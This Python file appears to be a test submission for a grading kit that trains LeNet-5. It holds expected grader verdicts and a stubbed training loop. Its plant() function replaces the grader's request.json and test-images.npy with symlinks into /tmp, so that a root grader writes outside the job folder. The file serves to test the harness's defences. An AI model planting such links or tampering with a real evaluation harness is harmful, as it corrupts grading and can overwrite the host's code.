# expect: architecture=passed parameters=passed layers=passed n_classes=passed optimizer=failed training_loop=failed accuracy=failed
"""Idle base. Makes the grading process write outside the job folder: at import in the
training stage, after the worker has read its request, it replaces the names the grader writes
next, the evaluation's request.json and test-images.npy, with links to
/tmp/lenet5-pwned-<job>-<name> on the grading machine. The grader, root in a container, would
create or overwrite whatever the links name (here harmless new files; the kit's code or the
Python environment as well). Inside the worker's view the links lead into its private /tmp,
where nothing is, so on a grader that follows them the evaluation fails (accuracy=error)."""

import json
import os
from pathlib import Path

import torch
import torch.nn.functional as F
from torch import nn

NAMES = ("request.json", "test-images.npy")


def plant():
    if json.loads(Path("request.json").read_text())["stage"] != "train":
        return
    for name in NAMES:
        if os.path.lexists(name):
            os.unlink(name)
        os.symlink(f"/tmp/lenet5-pwned-{Path.cwd().name}-{name}", name)


plant()

BATCH_SIZE = 64
EPOCHS = 1
LEARNING_RATE = 1e-3


class LeNet5(nn.Module):
    def __init__(self, n_classes):
        super().__init__()
        self.c1 = nn.Conv2d(1, 6, 5, padding=2)
        self.c3 = nn.Conv2d(6, 16, 5)
        self.c5 = nn.Conv2d(16, 120, 5)
        self.f6 = nn.Linear(120, 84)
        self.out = nn.Linear(84, n_classes)

    def forward(self, x):
        x = F.avg_pool2d(torch.tanh(self.c1(x)), 2)
        x = F.avg_pool2d(torch.tanh(self.c3(x)), 2)
        x = torch.tanh(self.c5(x)).flatten(1)
        return self.out(torch.tanh(self.f6(x)))


def make_optimizer(model):
    return torch.optim.Adam(model.parameters(), lr=LEARNING_RATE)


def train_one_epoch(model, loader, optimizer, loss_fn, device):
    return 0.0


@torch.no_grad()
def evaluate(model, loader, device):
    hits = seen = 0
    for images, labels in loader:
        hits += (model(images.to(device)).argmax(1).cpu() == labels).sum().item()
        seen += len(labels)
    return hits / max(seen, 1)
